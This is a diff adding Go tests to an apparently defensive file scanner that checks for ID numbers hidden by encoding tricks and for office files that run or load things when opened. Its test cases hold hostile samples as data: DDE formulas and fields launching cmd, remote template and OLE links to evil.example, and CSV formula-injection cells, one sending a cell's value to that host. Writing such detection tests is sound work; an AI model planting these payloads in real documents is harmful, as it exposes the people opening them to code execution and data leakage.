@@ -168,3 +168,91 @@ func TestUsualPartsTellNothing(t *testing.T) {
 		t.Error(got)
 	}
 }
+
+// TestTextsInOtherDress: what a reader sees as a number, however it is written.
+func TestTextsInOtherDress(t *testing.T) {
+	var escaped, references, spans, glyphs, wide, blanks strings.Builder
+	for i, c := range id {
+		fmt.Fprintf(&escaped, `\u%04x`, c)
+		fmt.Fprintf(&references, `&#%d;`, c)
+		fmt.Fprintf(&spans, "<tspan x=\"%d\">%c</tspan>\n", i, c)
+		fmt.Fprintf(&glyphs, "<text x=\"%d\">%c</text>\n", i, c)
+		fmt.Fprintf(&wide, "%c\x00", c)
+		fmt.Fprintf(&blanks, "\x00\x00%c", c)
+	}
+	drawn := func(s string) string { return `<svg xmlns="http://www.w3.org/2000/svg"><g>` + s + `</g></svg>` }
+	for _, c := range []struct{ name, kind, src, want string }{
+		{"UTF-16 without a mark", ".csv", "a\x00,\x00" + wide.String(), "第 1 行 " + masked + "; " + unknownEncoding.ZH},
+		{"UTF-16, the other way", ".txt", "\x00" + wide.String(), "第 1 行 " + masked + "; " + unknownEncoding.ZH},
+		{"NULs", ".txt", blanks.String(), "第 1 行 " + masked + "; " + unknownEncoding.ZH},
+		{"a NUL alone", ".txt", "公开\x00", unknownEncoding.ZH},
+		{"escapes", ".json", `{"a": "` + escaped.String() + `"}`, "第 1 行 " + masked},
+		{"escapes of JSON that are none", ".json", `{"a": "\u12 \\ \n"}`, ""},
+		{"references", ".svg", drawn("<text>" + references.String() + "</text>"), "图里的文字 " + masked},
+		{"a span for each letter", ".svg", drawn("<text>" + spans.String() + "</text>"), "图里的文字 " + masked},
+		{"a text for each letter", ".svg", drawn(glyphs.String()), "图里的文字 " + masked},
+		{"told once", ".svg", drawn("<text>" + id + "</text>"), "第 1 行 " + masked},
+		{"an axis", ".svg", drawn("<text>1380</text><text>0138</text><text>000</text><text>2</text><text>3</text>"), ""},
+	} {
+		if got := told(Look(c.kind, []byte(c.src))); got != c.want {
+			t.Errorf("%s: %q, want %q", c.name, got, c.want)
+		}
+	}
+}
+
+// TestWhatProgramsRun: what an office program would run or load when it opens a
+// file, and what only looks like it.
+func TestWhatProgramsRun(t *testing.T) {
+	formula := func(f string) []byte {
+		return book(t, nil, [2]string{"a", `<row><c><f>` + f + `</f><v>1</v></c></row>`})
+	}
+	field := func(parts ...string) []byte {
+		var b strings.Builder
+		for _, p := range parts {
+			b.WriteString(`<w:r><w:instrText>` + p + `</w:instrText></w:r>`)
+		}
+		return doc(t, `<w:p>`+b.String()+`</w:p>`, nil)
+	}
+	related := func(kind, target string) []byte {
+		return doc(t, "", map[string]string{"word/_rels/settings.xml.rels": relations(kind, target)})
+	}
+	for _, c := range []struct {
+		name, kind string
+		src        []byte
+		want       string
+	}{
+		{"a formula", ".xlsx", formula("cmd|'/c calc'!A0"), startsProgram.ZH},
+		{"a formula with sums", ".xlsx", formula("1+SUM(MSEXCEL|'x'!A0)"), startsProgram.ZH},
+		{"a bar in a text", ".xlsx", formula(`A1&amp;"|"&amp;Sheet2!B1&amp;"|"`), ""},
+		{"a link by DDE", ".xlsx", book(t, map[string]string{"xl/externalLinks/externalLink1.xml": `<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`}, [2]string{"a", ""}), startsProgram.ZH},
+		{"a field", ".docx", field(` DDEAUTO c:\\windows\\cmd.exe "/k calc" `), startsProgram.ZH},
+		{"a field in two runs", ".docx", field(` DDE`, `AUTO cmd `), startsProgram.ZH},
+		{"a simple field", ".docx", doc(t, `<w:fldSimple w:instr="DDE cmd"/>`, nil), startsProgram.ZH},
+		{"other fields", ".docx", field(` TOC \o "1-3" `, ` HYPERLINK "addendum" `, ` ADDEND `), ""},
+		{"a template of another machine", ".docx", related("attachedTemplate", "!http://evil.example/a.dotm"), loadsRemote.ZH},
+		{"a template of a share", ".docx", related("attachedTemplate", `!\\\\evil.example\\a.dotm`), loadsRemote.ZH},
+		{"a template of a share as a file", ".docx", related("attachedTemplate", "!file://evil.example/a.dotm"), loadsRemote.ZH},
+		{"one's own template", ".docx", related("attachedTemplate", "!file:///C:\\Users\\a\\Normal.dotm"), ""},
+		{"one's own template by its path", ".docx", related("attachedTemplate", "!C:\\Users\\a\\Normal.dotm"), ""},
+		{"an object of another machine", ".docx", related("oleObject", "!https://evil.example/a.doc"), loadsRemote.ZH},
+		{"a link", ".docx", related("hyperlink", "!https://www.gov.cn/"), ""},
+	} {
+		if got := Look(c.kind, c.src).Active.ZH; got != c.want {
+			t.Errorf("%s: %q, want %q", c.name, got, c.want)
+		}
+	}
+}
+
+func TestCellsThatRun(t *testing.T) {
+	runs := []string{"=cmd|'/c calc'!A0", `"=HYPERLINK(""http://evil.example/""&A1,""x"")"`, "=1+1", " =A1", "+cmd|'/c calc'!A0", "@SUM(A1)", "-1+cmd|' /c calc'!A0", "＝HYPERLINK(A1)", "a;=A1;b"}
+	still := []string{"-", "--", "-5%", "-3.5", "+86 0851", "-1,2", "- 说明（略）", "@所有人", "=", "===", `"=""00123"""`, "=300", "－（无）", "－", "a=b", "1-2", "=>", "-3(下降)", "+/-"}
+	for i, cell := range append(runs, still...) {
+		want := ""
+		if i < len(runs) {
+			want = "有以 =、+、- 或 @ 开头的单元格，表格软件打开时会当公式运行"
+		}
+		if got := told(Look(".csv", []byte("甲,乙\n白果村,"+cell+"\n"))); got != want {
+			t.Errorf("%s: %q, want %q", cell, got, want)
+		}
+	}
+}
